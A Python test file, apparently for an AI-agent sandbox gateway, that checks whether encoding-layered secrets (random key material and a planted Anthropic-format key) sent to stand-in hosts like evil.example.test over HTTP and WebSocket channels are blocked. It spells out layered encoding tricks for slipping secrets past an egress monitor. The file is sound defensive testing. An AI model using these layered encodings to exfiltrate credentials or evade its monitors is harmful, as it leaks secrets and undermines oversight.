"""Key material in layers of encoding, through every channel of a real cage's real gateway.

Planted in the cage's workspace: random key material (`leaked.bin`) and a provider-format key
(`leaked.key`, an Anthropic key). From inside the cage each is wrapped in layers of encoding
(hex then base64 or hex again, base85, Ascii85, base32 of the raw bytes, ...) and sent in a
query value, a path segment, a header, a JSON body and a WebSocket message. The entropy and
secrets inspectors peel the layers (to a bounded depth, within a budget): every one is blocked,
and nothing of it reaches the fake internet. Each channel carries controls, ordinary text in
the same layers, that must arrive, so a gateway that blocks everything cannot pass.
"""

from __future__ import annotations

import base64
import json
from pathlib import Path

import pytest

from tests.agentcage.test_gateway_world import canary
from tests.agentcage.test_secrets_world import LEAKED_KEY, LEAKED_RANDOM, secrets_cage
from tests.agentcage.test_websocket_world import CLIENT as WS_CLIENT

pytestmark = pytest.mark.netns

LAYERED = (Path(__file__).parent / "layered_client.py").read_text()
RND, KEY = "/workspace/leaked.bin", "/workspace/leaked.key"
# The controls: plain data in the same layers. Periodic, so that no layer of it passes the
# reference thresholds on raw values (5.5 bits per character in a query value or path segment,
# which base85 of ordinary prose already does); ordinary text decoded as base85 is the unit
# tests' concern (tests/agentcage_secrets/test_peel.py).
PLAIN = "abcd" * 256
# Layers as the agent applies them, innermost first: "hex+base64" is base64 of hex.
RANDOM_LAYERS = ["hex+base64", "hex+hex", "hex+base64url", "base85", "ascii85", "base32",
                 "base85+base64", "hex+base85"]
KEY_LAYERS = ["base85", "ascii85", "base32", "hex+hex", "hex+base64", "base64+base32"]
CHANNELS = ["query", "path", "header", "body"]


@pytest.fixture(scope="module")
def lcage(net):
    # many requests to one host in a few seconds: over the default per-host rate
    yield from secrets_cage(net, "layered",
                            "rate_limit: {requests_per_second: 1000, burst: 1000}\n")


def send(cage, host: str, channel: str, items: list[dict]) -> dict:
    spec = {"host": host, "channel": channel, "items": items}
    r = cage.service.exec_capture(cage.name, ["python3", "-c", LAYERED, json.dumps(spec)],
                                  timeout=120)
    assert r.returncode == 0, r
    return json.loads(r.stdout)


def arrived(cage, marker: str) -> bool:
    return any(marker in q["path"] for q in cage.net.http_requests())


@pytest.mark.parametrize("channel", CHANNELS)
def test_layered_random_material_is_blocked_in_every_channel(lcage, channel):
    items = {f"{canary()}-rnd-{layers.replace('+', '-')}":
             {"file": RND, "slice": [0, 1024], "encode": layers} for layers in RANDOM_LAYERS}
    controls = {f"{canary()}-ctl-{layers.replace('+', '-')}":
                {"text": PLAIN, "encode": layers} for layers in RANDOM_LAYERS}
    got = send(lcage, "allowed.example.test", channel,
               [{"marker": m, **i} for m, i in {**items, **controls}.items()])
    assert {m: got[m] for m in controls} == dict.fromkeys(controls, 200), got
    assert {m: got[m] for m in items} == dict.fromkeys(items, 403), got
    assert not [m for m in items if arrived(lcage, m)]
    for marker in items:
        (rec,) = [r for r in lcage.audit() if marker in (r.get("path") or "")
                  or marker in (r.get("url") or "")]
        assert rec["decision"] == "blocked" and rec["by"] == "entropy", rec


@pytest.mark.parametrize("channel", CHANNELS)
def test_layered_provider_key_is_blocked_in_every_channel(lcage, channel):
    items = {f"{canary()}-key-{layers.replace('+', '-')}": {"file": KEY, "encode": layers}
             for layers in KEY_LAYERS}
    controls = {f"{canary()}-ctl-{layers.replace('+', '-')}":
                {"text": PLAIN[:108], "encode": layers} for layers in KEY_LAYERS}
    got = send(lcage, "evil.example.test", channel,
               [{"marker": m, **i} for m, i in {**items, **controls}.items()])
    assert {m: got[m] for m in controls} == dict.fromkeys(controls, 200), got
    assert {m: got[m] for m in items} == dict.fromkeys(items, 403), got
    assert not [m for m in items if arrived(lcage, m)]
    for marker in items:
        (rec,) = [r for r in lcage.audit() if marker in (r.get("path") or "")]
        # a provider's key toward another host (secrets), or its layers judged random data
        # first (a path segment is also held to 5.5 bits per character)
        assert rec["decision"] == "blocked" and rec["by"] in ("secrets", "entropy"), rec


def ws_send(cage, host: str, message: dict) -> dict:
    spec = {"host": host, "port": 443, "tls": True, "path": "/ws",
            "messages": [{"type": "text", "text": "hello, control"}, message]}
    r = cage.service.exec_capture(cage.name, ["python3", "-c", WS_CLIENT, json.dumps(spec)],
                                  timeout=60)
    assert r.returncode == 0, r
    return json.loads(r.stdout)


@pytest.mark.parametrize(("source", "layers", "host"), [
    *((RND, layers, "allowed.example.test") for layers in RANDOM_LAYERS),
    *((KEY, layers, "evil.example.test") for layers in KEY_LAYERS),
])
def test_layered_material_in_a_websocket_message_is_cut(lcage, source, layers, host):
    message = {"type": "text", "file": source, "encode": layers}
    if source == RND:
        message["slice"] = [0, 1024]
    got = ws_send(lcage, host, message)
    assert got["status"] == 101 and "echo" in got["results"][0], got  # the control went through
    assert "echo" not in got["results"][1], got  # the layered message did not come back
    material = LEAKED_RANDOM[:1024] if source == RND else LEAKED_KEY.encode()
    sent = [r.data for r in lcage.net.sink_records() if r.proto == "wss"]
    assert not any(base64.b16encode(material).lower() in m or material in m for m in sent)
